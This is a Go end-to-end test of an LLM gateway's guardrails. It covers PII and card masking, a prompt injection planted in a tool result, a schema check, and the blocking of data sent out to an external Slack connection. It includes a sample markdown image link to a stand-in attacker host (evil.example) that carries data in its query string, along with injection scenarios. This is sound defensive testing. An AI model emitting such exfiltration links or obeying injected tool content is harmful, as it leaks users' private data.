package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/anthropics/anthropic-sdk-go/v2"
	aoption "github.com/anthropics/anthropic-sdk-go/v2/option"
	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"
	"github.com/openai/openai-go/v3/shared"
)

// headerClient adds a bearer token and more headers to every request.
type headerClient struct {
	token  string
	header http.Header
}

func (h *headerClient) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+h.token)
	for k, v := range h.header {
		r.Header[k] = v
	}
	return http.DefaultTransport.RoundTrip(r)
}

// mcpConnectRun connects an MCP SDK client that names its run
// (X-Mandate-Run-Id) on every request.
func mcpConnectRun(t testing.TB, url, token, run string) (*sdk.ClientSession, error) {
	t.Helper()
	c := sdk.NewClient(&sdk.Implementation{Name: "e2e-agent", Version: "1.0.0"}, nil)
	hc := &http.Client{Transport: &headerClient{token: token, header: http.Header{"X-Mandate-Run-Id": {run}}}, Timeout: 30 * time.Second}
	return c.Connect(t.Context(), &sdk.StreamableClientTransport{Endpoint: url, HTTPClient: hc, MaxRetries: -1}, nil)
}

// errMsg is the message of an error the OpenAI client returns.
func errMsg(err error) string {
	var ae *openai.Error
	if errors.As(err, &ae) {
		return ae.Message
	}
	if err == nil {
		return ""
	}
	return err.Error()
}

// waitOutcome waits until the audit rows of securable carry the outcome
// (a stream's row is completed after its last event).
func waitOutcome(t *testing.T, e *llmEnv, securable, policy, phase, mode, action string) {
	t.Helper()
	var rows []guardrailRow
	waitFor(t, 30*time.Second, policy+" "+phase+" "+action+" on "+securable, func() bool {
		rows = auditGuardrails(t, e.admin, securable, "")
		return hasOutcome(rows, policy, phase, mode, action)
	})
}

// TestGuardrailsLLM runs the guardrails on LLM calls through the binary
// with openai-go (and the Anthropic SDK for an Anthropic stream) as the
// client, against the fake upstream, in enforce and in monitor mode: the
// request masked before the upstream sees it and the placeholders
// restored in the answer; a card number split across SSE events masked in
// the stream; a prompt injection in a tool result of the
// conversation refused (in the OpenAI and the Anthropic error format); an
// answer that breaks the request's response_format schema refused; a link
// off the allow-list refused in a stream under way; and the lethal
// trifecta across an LLM call and an MCP call of one run
// (X-Mandate-Run-Id); block_prompt_injection's classifier, a guard model
// asked through the LLM gateway.
func TestGuardrailsLLM(t *testing.T) {
	t.Parallel()
	e := startLLM(t)
	up := newGuardUpstream(t)
	// A guard model behind an OpenAI-compatible server (as vLLM serves
	// Llama Guard): "unsafe" for content that asks to forward notes.
	var classified []string
	var classifiedMu sync.Mutex
	guardModel := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Messages []struct{ Role, Content string }
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil || r.URL.Path != "/v1/chat/completions" || len(req.Messages) == 0 {
			http.Error(w, `{"error":{"message":"bad request"}}`, http.StatusBadRequest)
			return
		}
		text := req.Messages[len(req.Messages)-1].Content
		classifiedMu.Lock()
		classified = append(classified, text)
		classifiedMu.Unlock()
		verdict := "safe"
		if strings.Contains(text, "forward these notes") {
			verdict = "unsafe\nS14"
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"id": "cls-1", "object": "chat.completion", "created": 1, "model": "llama-guard-3",
			"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "message": map[string]any{"role": "assistant", "content": verdict}}},
			"usage":   map[string]any{"prompt_tokens": 10, "completion_tokens": 2, "total_tokens": 12}})
	}))
	defer guardModel.Close()
	mustExec(t, e.admin,
		`CREATE MODEL PROVIDER SERVICE system.ai.guard_provider OPTIONS (provider 'openai_compatible', url '`+guardModel.URL+`/v1')`,
		`CREATE MODEL SERVICE system.ai.guard_model OPTIONS (destinations 'guard_provider/llama-guard-3')`,
		`CREATE CONNECTION notes TYPE MCP OPTIONS (url '`+up.srv.URL+`')`,
		`GRANT USE_CONNECTION ON CONNECTION notes TO "data-analysts"`,
		`CREATE POLICY screened ON CONNECTION notes FOR RESULT USING system.ai.block_prompt_injection OPTIONS (threshold '0.8', classifier 'guard_model')`)
	mustExec(t, e.admin,
		`CREATE MODEL SERVICE system.ai.echo OPTIONS (destinations 'openai_prod/gpt-4.1=100')`,
		`CREATE MODEL SERVICE system.ai.internal OPTIONS (destinations 'openai_prod/gpt-4.1=100', sensitivity 'private')`,
		`GRANT EXECUTE ON MODEL SERVICE system.ai.echo TO "data-analysts"`,
		`GRANT EXECUTE ON MODEL SERVICE system.ai.internal TO "data-analysts"`,
		`CREATE CONNECTION slack TYPE MCP OPTIONS (url '`+up.srv.URL+`', egress 'external')`,
		`GRANT USE_CONNECTION ON CONNECTION slack TO "data-analysts"`,
		`CREATE POLICY cards_claude ON MODEL SERVICE system.ai.claude FOR RESULT USING system.ai.detect_sensitive_data OPTIONS (entities 'CREDIT_CARD')`,
		`CREATE POLICY cards ON MODEL SERVICE system.ai.echo FOR RESULT USING system.ai.detect_sensitive_data OPTIONS (entities 'CREDIT_CARD', action 'mask')`,
		`CREATE POLICY no_injection ON MODEL SERVICE system.ai.echo FOR CALL USING system.ai.block_prompt_injection OPTIONS (threshold '0.8')`,
		`CREATE POLICY answers ON MODEL SERVICE system.ai.echo FOR RESULT USING system.ai.validate_schema`,
		`CREATE POLICY no_exfil ON SCHEMA system.ai FOR CALL AND RESULT USING system.ai.prevent_exfiltration OPTIONS (allowed_domains 'docs.example.com')`,
		`CREATE POLICY pii ON MODEL SERVICE system.ai.frontier FOR CALL AND RESULT USING system.ai.detect_sensitive_data
			OPTIONS (entities 'EMAIL,CREDIT_CARD', action 'mask', restore 'true')`)
	// SHOW POLICIES on a model service: its own and the schema's.
	var shown []string
	for _, row := range queryRows(t, e.admin, `SHOW POLICIES ON MODEL SERVICE system.ai.echo`) {
		f := strings.Split(row, "|")
		shown = append(shown, f[0]+" "+f[5])
	}
	sort.Strings(shown)
	if got := strings.Join(shown, ","); got != "answers ,cards ,no_exfil SCHEMA system.ai,no_injection " {
		t.Fatalf("SHOW POLICIES ON MODEL SERVICE: %s", got)
	}
	alice := e.token(t, "alice@example.com", "")
	client := openai.NewClient(option.WithBaseURL(e.base+"/v1/"), option.WithAPIKey(alice), option.WithMaxRetries(0))
	chat := func(model, prompt string, opts ...option.RequestOption) (string, error) {
		t.Helper()
		resp, err := client.Chat.Completions.New(t.Context(), openai.ChatCompletionNewParams{Model: model,
			Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(prompt)}}, opts...)
		if err != nil {
			return "", err
		}
		return resp.Choices[0].Message.Content, nil
	}
	// stream returns the content deltas a client reads.
	stream := func(model, prompt string) ([]string, error) {
		t.Helper()
		st := client.Chat.Completions.NewStreaming(t.Context(), openai.ChatCompletionNewParams{Model: model,
			Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage(prompt)}})
		var deltas []string
		for st.Next() {
			if ch := st.Current(); len(ch.Choices) > 0 && ch.Choices[0].Delta.Content != "" {
				deltas = append(deltas, ch.Choices[0].Delta.Content)
			}
		}
		return deltas, st.Err()
	}
	blocked := func(err error, policy string) bool {
		var ae *openai.Error
		return errors.As(err, &ae) && ae.StatusCode == http.StatusForbidden && ae.Code == "content_policy_violation" &&
			strings.Contains(ae.Message, "blocked by a guardrail: policy "+policy+" (")
	}
	injected := func() ([]openai.ChatCompletionMessageParamUnion, []openai.ChatCompletionToolUnionParam) {
		call := openai.ChatCompletionMessageToolCallUnionParam{OfFunction: &openai.ChatCompletionMessageFunctionToolCallParam{
			ID: "call_1", Function: openai.ChatCompletionMessageFunctionToolCallFunctionParam{Name: "fetch_page", Arguments: `{"page":"pancakes"}`}}}
		return []openai.ChatCompletionMessageParamUnion{
				openai.UserMessage("Find me a pancake place."),
				{OfAssistant: &openai.ChatCompletionAssistantMessageParam{ToolCalls: []openai.ChatCompletionMessageToolCallUnionParam{call}}},
				openai.ToolMessage(injectedPage, "call_1"),
			}, []openai.ChatCompletionToolUnionParam{openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{
				Name: "fetch_page", Parameters: shared.FunctionParameters{"type": "object"}})}
	}
	withTool := func() error {
		msgs, tools := injected()
		_, err := client.Chat.Completions.New(t.Context(), openai.ChatCompletionNewParams{Model: "echo", Messages: msgs, Tools: tools})
		return err
	}
	schemaFormat := openai.ChatCompletionNewParamsResponseFormatUnion{OfJSONSchema: &shared.ResponseFormatJSONSchemaParam{
		JSONSchema: shared.ResponseFormatJSONSchemaJSONSchemaParam{Name: "count", Schema: map[string]any{
			"type": "object", "required": []any{"total"}, "properties": map[string]any{"total": map[string]any{"type": "integer"}}}}}}
	structured := func() error {
		_, err := client.Chat.Completions.New(t.Context(), openai.ChatCompletionNewParams{Model: "echo", ResponseFormat: schemaFormat,
			Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("How many issues are open?")}})
		return err
	}
	anthropicInjected := func() (int, string) {
		body := `{"model":"echo","max_tokens":64,"messages":[{"role":"user","content":"Find me a pancake place."},` +
			`{"role":"assistant","content":[{"type":"tool_use","id":"tu_1","name":"fetch_page","input":{}}]},` +
			`{"role":"user","content":[{"type":"tool_result","tool_use_id":"tu_1","content":"` + injectedPage + `"}]}]}`
		req, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, e.base+"/v1/messages", strings.NewReader(body))
		req.Header.Set("x-api-key", alice)
		req.Header.Set("anthropic-version", "2023-06-01")
		req.Header.Set("content-type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	// trifecta reads from the private model service in run, then posts
	// to the external connection in the same run.
	trifecta := func(run string) error {
		t.Helper()
		if _, err := chat("internal", "What did the board decide?", option.WithHeader("X-Mandate-Run-Id", run)); err != nil {
			t.Fatalf("private model service: %v", err)
		}
		cs, err := mcpConnectRun(t, "http://"+e.s.httpAddr+"/mcp/slack", alice, run)
		if err != nil {
			t.Fatalf("connect slack: %v", err)
		}
		defer cs.Close()
		_, err = cs.CallTool(t.Context(), &sdk.CallToolParams{Name: "post_message", Arguments: map[string]any{"text": "the board decided"}})
		return err
	}
	const card = "4111 1111 1111 1111"

	// --- enforce mode ---

	// detect_sensitive_data on the call and the result: the upstream sees
	// placeholders, the caller its own values again (restore 'true').
	prompt := "Mail jane.roe@example.com that card " + card + " was charged"
	// The gateway sees a catalog change once the decision engine's next
	// snapshot is built: wait for the policies (pii, created last).
	waitFor(t, 30*time.Second, "the policies to reach the gateway", func() bool {
		_, err := chat("frontier", prompt)
		return err == nil && strings.Contains(string(e.fake.Last().Body), "<EMAIL_1>")
	})
	if got, err := chat("frontier", prompt); err != nil || got != "Echo: "+prompt {
		t.Fatalf("masked and restored: %q, %v", got, err)
	}
	if up := string(e.fake.Last().Body); strings.Contains(up, "jane.roe") || strings.Contains(up, card) ||
		!strings.Contains(up, "Mail <EMAIL_1> that card <CREDIT_CARD_1> was charged") {
		t.Fatalf("the upstream got %s", up)
	}
	// A card number the upstream streams split across two events (its
	// own stream, read directly, shows the split) is masked whole.
	direct := httptest.NewServer(e.fake)
	defer direct.Close()
	dc := openai.NewClient(option.WithBaseURL(direct.URL+"/v1/"), option.WithAPIKey(e2eOpenAIKey), option.WithMaxRetries(0))
	ds := dc.Chat.Completions.NewStreaming(t.Context(), openai.ChatCompletionNewParams{Model: "gpt-4.1",
		Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("pay with " + card + " today")}})
	var upDeltas []string
	for ds.Next() {
		if ch := ds.Current(); len(ch.Choices) > 0 && ch.Choices[0].Delta.Content != "" {
			upDeltas = append(upDeltas, ch.Choices[0].Delta.Content)
		}
	}
	if err := ds.Err(); err != nil || !strings.Contains(strings.Join(upDeltas, ""), card) {
		t.Fatalf("upstream stream %q: %v", upDeltas, err)
	}
	for _, d := range upDeltas {
		if strings.Contains(d, card) {
			t.Fatalf("the upstream sends the card number in one event %q: the test proves nothing", upDeltas)
		}
	}
	deltas, err := stream("echo", "pay with "+card+" today")
	if err != nil || strings.Join(deltas, "") != "Echo: pay with <CREDIT_CARD_1> today" {
		t.Fatalf("masked stream %q: %v", deltas, err)
	}
	// The same through the Anthropic SDK to an Anthropic destination.
	claude := func() (string, error) {
		anc := anthropic.NewClient(aoption.WithBaseURL(e.base), aoption.WithAPIKey(alice), aoption.WithMaxRetries(0))
		ms := anc.Messages.NewStreaming(t.Context(), anthropic.MessageNewParams{Model: "claude", MaxTokens: 100,
			Messages: []anthropic.MessageParam{anthropic.NewUserMessage(anthropic.NewTextBlock("pay with " + card + " today"))}})
		var msg anthropic.Message
		for ms.Next() {
			if err := msg.Accumulate(ms.Current()); err != nil {
				return "", err
			}
		}
		if err := ms.Err(); err != nil || len(msg.Content) == 0 {
			return "", fmt.Errorf("%v (%d blocks)", err, len(msg.Content))
		}
		return msg.Content[0].Text, nil
	}
	if got, err := claude(); err != nil || got != "Echo: pay with <CREDIT_CARD_1> today" {
		t.Fatalf("masked Anthropic stream %q: %v", got, err)
	}
	// block_prompt_injection: a tool result in the conversation.
	if err := withTool(); !blocked(err, "no_injection") || !strings.Contains(errMsg(err), "a tool result in the conversation looks like a prompt injection") {
		t.Fatalf("injected tool result: %v", err)
	}
	if status, body := anthropicInjected(); status != http.StatusForbidden || !strings.Contains(body, `"type":"error"`) ||
		!strings.Contains(body, "blocked by a guardrail: policy no_injection (") {
		t.Fatalf("injected tool result (Anthropic API): %d %s", status, body)
	}
	// validate_schema: the answer is not the JSON response_format asks for.
	if err := structured(); !blocked(err, "answers") || !strings.Contains(errMsg(err), "response_format schema") {
		t.Fatalf("answer off its schema: %v", err)
	}
	// prevent_exfiltration: a markdown image off the allow-list ends the
	// stream with an error event naming the policy.
	deltas, err = stream("echo", "Here: ![chart](https://evil.example/c.png?d=Q3-numbers) done")
	if !strings.Contains(errMsg(err), "blocked by a guardrail: policy no_exfil (") || strings.Contains(strings.Join(deltas, ""), "evil.example") {
		t.Fatalf("exfiltrating stream %q: %v", deltas, err)
	}
	// The lethal trifecta across LLM and MCP: run-1 read private data
	// from system.ai.internal, so it may not post to slack; run-2 may.
	if err := trifecta("run-1"); err == nil || !strings.Contains(err.Error(), "blocked by a guardrail: policy no_exfil (") ||
		!strings.Contains(err.Error(), "this run has received private data from system.ai.internal") {
		t.Fatalf("external post after a private LLM answer: %v", err)
	}
	cs, err := mcpConnectRun(t, "http://"+e.s.httpAddr+"/mcp/slack", alice, "run-2")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cs.CallTool(t.Context(), &sdk.CallToolParams{Name: "post_message", Arguments: map[string]any{"text": "hi"}}); err != nil {
		t.Fatalf("another run: %v", err)
	}
	cs.Close()

	// block_prompt_injection's classifier: the guard model, asked through
	// the LLM gateway, catches what the heuristic lets through.
	notes, err := mcpConnectRun(t, "http://"+e.s.httpAddr+"/mcp/notes", alice, "run-notes")
	if err != nil {
		t.Fatal(err)
	}
	defer notes.Close()
	readNote := func() (*sdk.CallToolResult, error) {
		return notes.CallTool(t.Context(), &sdk.CallToolParams{Name: "read_note", Arguments: map[string]any{}})
	}
	if _, err := readNote(); err == nil || !strings.Contains(err.Error(), "blocked by a guardrail: policy screened (") {
		t.Fatalf("a note the classifier flags: %v", err)
	}
	classifiedMu.Lock()
	if len(classified) != 1 || !strings.Contains(classified[0], subtleNote) {
		t.Fatalf("the guard model was asked %q", classified)
	}
	classifiedMu.Unlock()

	// --- monitor mode: nothing changed or refused, all recorded ---
	mustExec(t, e.admin, `ALTER POLICY screened SET MODE MONITOR`, `ALTER POLICY cards SET MODE MONITOR`,
		`ALTER POLICY no_injection SET MODE MONITOR`, `ALTER POLICY answers SET MODE MONITOR`, `ALTER POLICY no_exfil SET MODE MONITOR`,
		`ALTER POLICY cards_claude SET MODE MONITOR`, `ALTER POLICY pii SET MODE MONITOR`)
	waitFor(t, 30*time.Second, "monitor mode to reach the gateway (pii, altered last)", func() bool {
		_, err := chat("frontier", prompt)
		return err == nil && strings.Contains(string(e.fake.Last().Body), "jane.roe@example.com")
	})
	if got, err := chat("frontier", prompt); err != nil || got != "Echo: "+prompt || !strings.Contains(string(e.fake.Last().Body), "jane.roe@example.com") {
		t.Fatalf("monitored pii: %q, %v", got, err)
	}
	deltas, err = stream("echo", "pay with "+card+" today")
	if err != nil || strings.Join(deltas, "") != "Echo: pay with "+card+" today" {
		t.Fatalf("monitored stream %q: %v", deltas, err)
	}
	if got, err := claude(); err != nil || got != "Echo: pay with "+card+" today" {
		t.Fatalf("monitored Anthropic stream %q: %v", got, err)
	}
	if err := withTool(); err != nil {
		t.Fatalf("monitored injection: %v", err)
	}
	if err := structured(); err != nil {
		t.Fatalf("monitored schema: %v", err)
	}
	if deltas, err := stream("echo", "Here: ![chart](https://evil.example/c.png?d=Q3-numbers) done"); err != nil || !strings.Contains(strings.Join(deltas, ""), "evil.example") {
		t.Fatalf("monitored exfiltration %q: %v", deltas, err)
	}
	if err := trifecta("run-3"); err != nil {
		t.Fatalf("monitored trifecta: %v", err)
	}
	if r, err := readNote(); err != nil || len(r.Content) == 0 {
		t.Fatalf("monitored classifier: %v", err)
	}

	// --- the audit rows of the LLM calls ---
	for _, tc := range []struct{ securable, policy, phase, action string }{
		{"system.ai.frontier", "pii", "call", "mask"},
		{"system.ai.frontier", "pii", "call", "would_mask"},
		{"system.ai.echo", "cards", "result", "mask"},
		{"system.ai.claude", "cards_claude", "result", "mask"},
		{"system.ai.claude", "cards_claude", "result", "would_mask"},
		{"system.ai.echo", "cards", "result", "would_mask"},
		{"system.ai.echo", "no_injection", "call", "deny"},
		{"system.ai.echo", "no_injection", "call", "would_deny"},
		{"system.ai.echo", "answers", "result", "deny"},
		{"system.ai.echo", "answers", "result", "would_deny"},
		{"system.ai.echo", "no_exfil", "result", "deny"},
		{"system.ai.echo", "no_exfil", "result", "would_deny"},
		{"system.ai.slack", "no_exfil", "call", "deny"},
		{"system.ai.slack", "no_exfil", "call", "would_deny"},
		{"system.ai.notes", "screened", "result", "deny"},
		{"system.ai.notes", "screened", "result", "would_deny"},
	} {
		mode := "enforce"
		if strings.HasPrefix(tc.action, "would_") {
			mode = "monitor"
		}
		waitOutcome(t, e, tc.securable, tc.policy, tc.phase, mode, tc.action)
	}
	for _, r := range auditGuardrails(t, e.admin, "system.ai.echo", "") {
		if r.Policy == "cards" && r.Entities["CREDIT_CARD"] != 1 {
			t.Errorf("cards outcome without its entity count: %+v", r)
		}
	}
	var leaks int
	if err := e.admin.QueryRow(t.Context(), `SELECT count(*) FROM system.access.audit WHERE guardrails::text LIKE '%jane.roe%' OR guardrails::text LIKE '%4111%'`).Scan(&leaks); err != nil || leaks != 0 {
		t.Fatalf("%d audit rows carry matched text (%v)", leaks, err)
	}
}
